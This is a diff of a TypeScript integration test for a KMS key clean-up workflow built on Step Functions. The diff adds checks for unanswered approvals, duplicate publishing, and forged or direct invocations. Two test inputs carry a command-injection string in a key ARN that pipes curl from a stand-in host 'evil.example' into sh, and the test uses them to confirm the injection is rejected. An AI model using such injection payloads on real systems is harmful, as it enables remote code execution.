@@ -6,14 +6,15 @@
 import { CreateKeyCommand, DescribeKeyCommand, KMSClient } from '@aws-sdk/client-kms';
 import { InvokeCommand, LambdaClient } from '@aws-sdk/client-lambda';
 import {
-  CreateStateMachineCommand, DescribeExecutionCommand, DescribeStateMachineCommand, GetExecutionHistoryCommand, ListExecutionsCommand,
-  SendTaskFailureCommand, SendTaskSuccessCommand, SFNClient, StartExecutionCommand,
+  DescribeExecutionCommand, DescribeStateMachineCommand, GetExecutionHistoryCommand, ListExecutionsCommand,
+  SendTaskFailureCommand, SendTaskSuccessCommand, SFNClient, StartExecutionCommand, UpdateStateMachineCommand,
 } from '@aws-sdk/client-sfn';
 import { DeleteMessageCommand, ReceiveMessageCommand, SQSClient } from '@aws-sdk/client-sqs';
 import { App, CfnOutput, Stack } from 'aws-cdk-lib';
 import * as lambda from 'aws-cdk-lib/aws-lambda';
 import * as sns from 'aws-cdk-lib/aws-sns';
 import * as sqs from 'aws-cdk-lib/aws-sqs';
+import { executionName } from '../handlers/shared/execution-name';
 import { KeyCleanUpMode, KeyLifecycleReporter } from '../src';
 import { Checks, equal } from './support/check';
 import { deploy, Outputs, synthesize } from './support/deploy';
@@ -28,7 +29,7 @@ const WAIT_SCALE = 2e-6;
 const WAIT_SECONDS = 30 * 86_400 * WAIT_SCALE;
 /** Milliseconds after which nothing comes any more. */
 const PATIENCE = 40_000;
-const NAMES = ['approved', 'refused', 'declined', 'refused later', 'undone', 'used meanwhile', 'not tagged'] as const;
+const NAMES = ['unanswered', 'approved', 'refused', 'declined', 'refused later', 'undone', 'used meanwhile', 'not tagged'] as const;
 type Name = typeof NAMES[number];
 
 function build(app: App, ministack: Emulator, kmsEndpoint: string): void {
@@ -42,9 +43,12 @@ function build(app: App, ministack: Emulator, kmsEndpoint: string): void {
     found.addEnvironment('AWS_ENDPOINT_URL_KMS', kmsEndpoint);
   }
   new CfnOutput(stack, 'QueueUrl', { value: queue.queueUrl });
+  new CfnOutput(stack, 'Report', { value: report.reportFunction.functionName });
   new CfnOutput(stack, 'Run', { value: report.stateMachine.stateMachineArn });
   new CfnOutput(stack, 'CleanUp', { value: report.cleanUpStateMachine!.stateMachineArn });
   new CfnOutput(stack, 'Undo', { value: report.restoreFunction!.functionName });
+  const steps = stack.node.findAll().find(construct => construct instanceof lambda.Function && construct.node.id === 'Steps') as lambda.Function;
+  new CfnOutput(stack, 'Steps', { value: steps.functionName });
 }
 
 /** What a person gets, and does. */
@@ -138,6 +142,10 @@ async function run(
   const cleanUpOf = async (name: Name) => (await cleanUps()).find(execution => arns[name].endsWith(execution.name!.split('-').slice(-5).join('-')))!.executionArn!;
   const passed = async (executionArn: string) => (await sfn.send(new GetExecutionHistoryCommand({ executionArn, maxResults: 1000 }))).events!
     .flatMap(event => (event.stateEnteredEventDetails?.name ? [event.stateEnteredEventDetails.name] : []));
+  const invoke = async (FunctionName: string, event: object) => {
+    const { Payload, FunctionError } = await new LambdaClient(ministack.client).send(new InvokeCommand({ FunctionName, Payload: JSON.stringify(event) }));
+    return { failed: FunctionError !== undefined, answer: JSON.parse(Buffer.from(Payload!).toString() || 'null') };
+  };
   const undo = async (name: Name) => {
     const { Payload, FunctionError } = await new LambdaClient(ministack.client)
       .send(new InvokeCommand({ FunctionName: outputs.Undo, Payload: JSON.stringify({ arn: arns[name] }) }));
@@ -146,17 +154,64 @@ async function run(
   };
   const question = (name: Name, text: string) => people.message(arns[name], text, '--task-token');
 
+  await checks.check('no answer in time is a no', async () => {
+    // A second for an answer instead of 7 days: MiniStack shortens waits, not timeouts.
+    const stateMachineArn = outputs.CleanUp;
+    const { definition } = await sfn.send(new DescribeStateMachineCommand({ stateMachineArn }));
+    const hasty = definition!.replaceAll('"TimeoutSeconds":604800', '"TimeoutSeconds":1');
+    equal(hasty === definition, false);
+    await sfn.send(new UpdateStateMachineCommand({ stateMachineArn, definition: hasty }));
+    const arn = arns.unanswered;
+    const { executionArn } = await sfn.send(new StartExecutionCommand({ stateMachineArn, name: executionName(arn), input: JSON.stringify({ arn }) }));
+    equal((await ended(executionArn!)).status, 'SUCCEEDED');
+    equal(await passed(executionArn!), ['Consider', 'Unused?', 'AskToDisable', 'NotDisabled', 'TellLeft', 'LeftAlone']);
+    await people.message(arn, 'it was not approved in time');
+    equal(changes('unanswered'), []);
+    await sfn.send(new UpdateStateMachineCommand({ stateMachineArn, definition }));
+  });
   await checks.check('the report runs to its end, and starts a clean-up for each key that it proposes', async () => {
     const { executionArn } = await sfn.send(new StartExecutionCommand({ stateMachineArn: outputs.Run, name: 'first', input: '{}' }));
     const { status, output } = await ended(executionArn!);
-    equal([status, output.totals.keys, output.proposed, output.started], ['SUCCEEDED', 7, 6, 6]);
-    equal((await cleanUps()).length, 6);
+    equal([status, output.totals.keys, output.proposed, output.started], ['SUCCEEDED', 8, 6, 6]);
+    equal((await cleanUps()).length, 7);
+    equal(kms.changes, []);
+  });
+  await checks.check('a report that is published twice says the same, and asks nobody twice', async () => {
+    const before = (await cleanUps()).length;
+    equal((await invoke(outputs.Report, { action: 'publish', runId: 'first', startedAt: '2099-01-01T00:00:00Z' })).answer.started, 6);
+    equal((await cleanUps()).length, before);
+  });
+  await checks.check('whoever can only invoke the functions gets nothing', async () => {
+    const execution = await cleanUpOf('approved');
+    await question('approved', 'looks unused');
+    for (const event of [
+      { step: 'disable', arn: arns.approved }, { step: 'schedule', arn: arns.approved, disabledAt: '2000-01-01T00:00:00Z' },
+      ...['Disable', 'LookAgain', 'Schedule', 'AskToDisable', 'NotDisabled'].map(state => ({ execution, state, arn: arns.approved, approved: true, token: 't' })),
+      { execution: execution.replace(/[^:]+$/, 'mine'), state: 'Disable' }, { execution: outputs.Run, state: 'Disable' },
+    ]) { equal((await invoke(outputs.Steps, event)).failed, true); }
+    for (const arn of [arns.approved, `${arns.approved}'; curl https://evil.example/x|sh; echo '`]) { equal((await invoke(outputs.Undo, { arn })).failed, true); }
+    equal(kms.changes, []);
+  });
+  await checks.check('whoever can only start executions asks no question that the report would not ask, and never twice', async () => {
+    const forged = async (input: object, name?: string) => (await sfn.send(new StartExecutionCommand({ stateMachineArn: outputs.CleanUp, name, input: JSON.stringify(input) }))).executionArn!;
+    const approved = { answer: { approved: true }, said: { go: true, subject: 'x', text: 'x' } };
+    const runs = [
+      await forged({ arn: arns['not tagged'], ...approved }, executionName(arns['not tagged'])),
+      // Another name for a key that is asked about already, and what is no key.
+      await forged({ arn: arns.approved, ...approved }),
+      await forged({ arn: `${arns.approved}'; curl https://evil.example/x|sh; echo '`, ...approved }),
+    ];
+    for (const run of runs) {
+      await ended(run);
+      equal((await passed(run)).filter(state => /Ask|Disable|Schedule|Tell/.test(state)), []);
+    }
     equal(kms.changes, []);
   });
   await checks.check('a second report asks nobody twice', async () => {
     const { executionArn } = await sfn.send(new StartExecutionCommand({ stateMachineArn: outputs.Run, name: 'second', input: '{}' }));
+    const before = (await cleanUps()).length;
     equal((await ended(executionArn!)).output.proposed, 0);
-    equal((await cleanUps()).length, 6);
+    equal((await cleanUps()).length, before);
   });
   await checks.check('without an answer nothing is done', async () => {
     for (const name of NAMES.slice(0, 6)) { await question(name, 'looks unused'); }
@@ -166,13 +221,13 @@ async function run(
     await people.refuse(await question('refused', 'looks unused'));
     equal((await ended(await cleanUpOf('refused'))).status, 'SUCCEEDED');
     await people.message(arns.refused, 'was not approved');
-    equal(await passed(await cleanUpOf('refused')), ['AskToDisable', 'TellNotDisabled', 'LeftAlone']);
+    equal(await passed(await cleanUpOf('refused')), ['Consider', 'Unused?', 'AskToDisable', 'NotDisabled', 'TellLeft', 'LeftAlone']);
     equal(changes('refused'), []);
   });
   await checks.check('an answer that does not approve is a no', async () => {
     await people.approve(await question('declined', 'looks unused'), false);
     await ended(await cleanUpOf('declined'));
-    equal(await passed(await cleanUpOf('declined')), ['AskToDisable', 'MayDisable?', 'TellNotDisabled', 'LeftAlone']);
+    equal(await passed(await cleanUpOf('declined')), ['Consider', 'Unused?', 'AskToDisable', 'MayDisable?', 'NotDisabled', 'TellLeft', 'LeftAlone']);
     equal(changes('declined'), []);
   });
   await checks.check('a key that was used after the question is left alone, though approved', async () => {
@@ -188,28 +243,29 @@ async function run(
     for (const name of ['approved', 'refused later', 'undone'] as const) { await people.message(arns[name], 'is disabled. In 30 days'); }
     equal([changes('approved'), (await key('approved')).KeyState], [['DisableKey'], 'Disabled']);
     equal(await undo('undone'), ['it was enabled']);
-    await question('approved', 'is disabled since');
+    await question('approved', 'has been disabled since');
     equal(Date.now() - before >= WAIT_SECONDS * 1000, true);
     equal(changes('approved'), ['DisableKey']);
   });
   await checks.check('a key that somebody enabled again in that time is left alone', async () => {
     await ended(await cleanUpOf('undone'));
-    equal((await passed(await cleanUpOf('undone'))).slice(-4), ['WaitDisabled', 'LookAgain', 'StillUnused?', 'LeftAlone']);
+    equal((await passed(await cleanUpOf('undone'))).slice(-4), ['LookAgain', 'StillUnused?', 'TellLeft', 'LeftAlone']);
     equal([changes('undone'), (await key('undone')).KeyState], [['DisableKey', 'EnableKey'], 'Enabled']);
   });
   await checks.check('approved again: its deletion is scheduled with 30 days', async () => {
-    await people.approve(await question('approved', 'is disabled since'));
+    await people.approve(await question('approved', 'has been disabled since'));
     equal((await ended(await cleanUpOf('approved'))).status, 'SUCCEEDED');
     equal(kms.changes.at(-1)!.input, { KeyId: arns.approved, PendingWindowInDays: 30 });
     equal(changes('approved'), ['DisableKey', 'ScheduleKeyDeletion']);
     const { KeyState, DeletionDate } = await key('approved');
     equal([KeyState, Math.round((DeletionDate!.getTime() - Date.now()) / 86_400_000)], ['PendingDeletion', 30]);
     equal(await passed(await cleanUpOf('approved')), [
-      'AskToDisable', 'MayDisable?', 'Disable', 'Disabled?', 'WaitDisabled', 'LookAgain', 'StillUnused?', 'AskToSchedule', 'MaySchedule?', 'Schedule', 'Scheduled?', 'Done',
+      'Consider', 'Unused?', 'AskToDisable', 'MayDisable?', 'Disable', 'Disabled?', 'TellDisabled', 'WaitDisabled', 'LookAgain', 'StillUnused?',
+      'AskToSchedule', 'MaySchedule?', 'Schedule', 'Scheduled?', 'TellScheduled', 'Done',
     ]);
   });
   await checks.check('refused at the second question: it stays disabled, and the undo enables it', async () => {
-    await people.refuse(await question('refused later', 'is disabled since'));
+    await people.refuse(await question('refused later', 'has been disabled since'));
     await ended(await cleanUpOf('refused later'));
     await people.message(arns['refused later'], 'stays disabled until somebody enables it');
     equal([changes('refused later'), (await key('refused later')).KeyState], [['DisableKey'], 'Disabled']);
@@ -219,17 +275,6 @@ async function run(
     equal(await undo('approved'), ['its deletion was cancelled', 'it was enabled']);
     equal(changes('approved'), ['DisableKey', 'ScheduleKeyDeletion', 'CancelKeyDeletion', 'EnableKey']);
     equal(await states(), Object.fromEntries(NAMES.map(name => [name, 'Enabled'])));
-  });
-  await checks.check('no answer in time is a no', async () => {
-    // The same machine with a second for an answer instead of 7 days: MiniStack shortens waits, not timeouts.
-    const { definition, roleArn } = await sfn.send(new DescribeStateMachineCommand({ stateMachineArn: outputs.CleanUp }));
-    const hasty = definition!.replaceAll('"TimeoutSeconds":604800', '"TimeoutSeconds":1');
-    equal(hasty === definition, false);
-    const { stateMachineArn } = await sfn.send(new CreateStateMachineCommand({ name: 'hasty', definition: hasty, roleArn: roleArn! }));
-    const { executionArn } = await sfn.send(new StartExecutionCommand({ stateMachineArn, input: JSON.stringify({ arn: arns.declined, reason: 'nobody answers' }) }));
-    equal((await ended(executionArn!)).status, 'SUCCEEDED');
-    equal(await passed(executionArn!), ['AskToDisable', 'TellNotDisabled', 'LeftAlone']);
-    equal(changes('declined'), []);
   });
   await checks.check('a key that is not tagged was never asked about', async () => {
     equal(changes('not tagged'), []);
